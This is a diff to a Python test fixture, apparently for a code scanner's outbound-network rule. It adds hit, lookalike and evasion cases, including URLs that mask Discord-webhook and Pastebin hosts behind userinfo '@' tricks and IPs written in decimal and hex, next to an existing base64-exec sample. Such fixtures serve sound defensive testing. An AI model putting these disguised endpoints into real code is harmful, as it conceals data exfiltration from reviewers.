@@ -22,6 +22,7 @@ class Case(NamedTuple):
 
 PAYLOAD: Final = "cHJpbnQoJ2hlbGxvJyk="
 """Base64 of a greeting."""
+_GET: Final = "import requests\ndef f():\n    requests.get"
 
 CASES: Final = (
     Case("C1", "hit", "high", "import base64\ndef run(text):\n    exec(base64.b64decode(text))\n"),
@@ -297,6 +298,18 @@ CASES: Final = (
     Case("C10", "hit", "low", "import requests\ndef f():\n    requests.get('https://example.invalid/x')\n"),
     Case("C10", "hit", "medium", "import socket\ndef f():\n    socket.create_connection(('93.184.216.34', 443))\n"),
     Case("C10", "hit", "medium", "U = 'https://demo.example.top/x'\n"),
+    Case("C10", "hit", "low", f"{_GET}('https://localhost.example.invalid/')\n"),
+    Case("C10", "hit", "low", f"{_GET}('http://me:secret@example.invalid:8080/x')\n"),
+    Case("C10", "twin", None, f"{_GET}('http://localhost:8000/')\n    requests.get('http://127.0.0.1/')\n"),
+    Case("C10", "twin", None, f"{_GET}('http://[::1]:80/')\n    requests.get('http://me:x@demo.localhost/')\n"),
+    Case("C10", "twin", None, "U = 'https://pypi.example.test@demo.example.invalid/'\n"),
+    Case("C10", "evasion", "medium", f"{_GET}('https://files.example.test@demo.example.invalid/')\n"),
+    Case("C10", "evasion", "medium", f"{_GET}('https://files.example.test:x@discord.com/api/webhooks/1/x')\n"),
+    Case("C10", "evasion", "medium", "U = 'https://files.example.test:x@pastebin.com/raw/x'\n"),
+    Case(
+        "C10", "evasion", "medium", "import requests\ndef f(v):\n    requests.get('https://a.example@b.invalid/' + v)\n"
+    ),
+    Case("C10", "evasion", "medium", "U = 'http://1572395042/x'\nV = 'http://0x5db8d822/x'\n"),
     Case(
         "C10", "twin", None, "U = 'https://example.invalid/docs'\nV = 'http://127.0.0.1:8000'\nW = 'http://10.0.0.1/'\n"
     ),
